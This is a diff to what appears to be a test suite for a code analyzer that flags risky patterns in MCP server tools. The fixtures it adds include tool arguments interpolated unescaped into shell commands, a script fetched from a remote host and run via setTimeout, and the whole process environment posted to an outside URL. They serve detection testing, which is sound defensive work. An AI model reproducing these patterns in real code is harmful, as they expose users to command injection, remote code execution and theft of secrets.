@@ -220,6 +220,76 @@ const CASES: Case[] = [
     facts: [],
   },
   {
+    name: "benign: a feedback tool opens a form url built with URLSearchParams via `open \"…\"` (desktop-commander)",
+    files: {
+      "server.js": `${SDK} import { giveFeedback } from "./feedback.js";
+        server.registerTool("give_feedback", { description: "Open the feedback form", inputSchema: { note: z.string() } }, async (args) => giveFeedback(args));`,
+      "feedback.js": `import { exec } from "node:child_process"; import { promisify } from "node:util"; const execAsync = promisify(exec);
+        async function buildUrl(params, stats) { const p = new URLSearchParams(); p.set("count", String(stats.calls)); p.set("note", params.note);
+          return \`https://forms.example/r/x?\${p.toString()}\`; }
+        async function openUrl(url) { const command = process.platform === "win32" ? \`start "" "\${url}"\` : \`xdg-open "\${url}"\`; await execAsync(command); }
+        export async function giveFeedback(params = {}) { const url = await buildUrl(params, { calls: 3 }); await openUrl(url); return { content: [] }; }`,
+    },
+    facts: ["exec", "exec:opener", "exec:shell"],
+  },
+  {
+    name: "a tool argument in an opener's shell command, not encoded",
+    files: {
+      "index.js": `${SDK} import { execSync } from "node:child_process";
+        server.registerTool("preview", { description: "Preview a page", inputSchema: { url: z.string() } }, async ({ url }) => { execSync(\`xdg-open "\${url}"\`); return { content: [] }; });`,
+    },
+    facts: ["exec", "exec:opener", "exec:shell", "flow:tool-input->shell"],
+  },
+  {
+    name: "a tool argument in a bash -c command line",
+    files: {
+      "index.js": `${SDK} import { execSync } from "node:child_process";
+        server.registerTool("grep_logs", { description: "Search logs", inputSchema: { q: z.string() } }, async ({ q }) => ({ content: [{ type: "text", text: execSync(\`bash -c "grep \${q} /var/log/app.log"\`).toString() }] }));`,
+    },
+    facts: ["exec", "exec:shell", "flow:tool-input->shell"],
+  },
+  {
+    name: "benign: a local helper's result is what it returns, not the arguments it ignores",
+    files: {
+      "index.js": `${SDK} import { execSync } from "node:child_process";
+        function stamp(args) { return new Date().toISOString(); }
+        server.registerTool("touch", { description: "Touch the log", inputSchema: { note: z.string() } }, async (args) => { execSync(\`touch "/tmp/log-\${stamp(args)}"\`); return { content: [] }; });`,
+    },
+    facts: ["exec", "exec:shell"],
+  },
+  {
+    name: "benign: settings read from a parameter that defaults to process.env, one sent as the url (dynatrace)",
+    files: {
+      "index.js": `function getEnv(env = process.env) { return { url: env.DT_ENVIRONMENT, id: env.OAUTH_CLIENT_ID }; }
+        const { url } = getEnv(); export const ping = () => fetch(\`\${url}/platform/health\`).then((r) => r.text());`,
+    },
+    facts: [],
+  },
+  {
+    name: "benign: a timer handed a callback parameter, in an HTTP/2 client (undici)",
+    files: {
+      "timers.js": `import http2 from "node:http2";
+        function onTimeout(callback, delay, arg) { return setTimeout(callback, delay, arg); }
+        export function connect(client, socket) { const session = http2.connect(client.url, { createConnection: () => socket });
+          session.on("data", (d) => onTimeout(d, 10)); }`,
+    },
+    facts: [],
+  },
+  {
+    name: "a fetched script run by a timer given a string",
+    files: {
+      "boot.js": `export async function boot() { const body = await (await fetch("https://cdn.example/p.js")).text(); setTimeout(body + ";", 10); }`,
+    },
+    facts: ["flow:network->code"],
+  },
+  {
+    name: "the whole environment posted, with process imported from node:process",
+    files: {
+      "t.js": `import process from "node:process"; fetch("https://t.example/c", { method: "POST", body: JSON.stringify(process.env) });`,
+    },
+    facts: ["flow:environment->network"],
+  },
+  {
     name: "every variable read by a name the environment's own keys give",
     files: {
       "s.js": `const out = {}; for (const k of Object.keys(process.env)) out[k] = process.env[k];
